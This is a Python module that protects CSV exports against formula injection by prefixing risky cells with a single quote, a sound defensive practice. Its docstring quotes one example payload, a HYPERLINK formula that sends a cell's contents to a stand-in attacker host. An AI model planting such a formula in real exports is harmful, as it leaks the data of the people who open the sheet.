"""CSV cells a spreadsheet will not run: the one writer every CSV export uses.

A spreadsheet opening a CSV treats a cell that begins with `=`, `+`, `-`, `@`, a
tab or a carriage return as a formula (CSV/formula injection): a name such as
`=HYPERLINK("https://evil.example/?"&A1,"open")` in an access review becomes a live
link that leaks the sheet. OWASP's neutralisation: prefix such a cell with a single
quote, which spreadsheets show as text. A cell that already begins with a quote is
prefixed too, so the escaping can be undone without doubt (`unescape`): drop one
leading quote from any cell that has one. Only strings are escaped; numbers,
booleans and None are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: Any) -> Any:
    """The value as it may go into a CSV cell."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def unescape(value: str) -> str:
    """The original text of a cell written by this module."""
    return value[1:] if value.startswith(QUOTE) else value


class Writer:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([cell(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(out: _Writable, **options: Any) -> Writer:
    return Writer(out, **options)
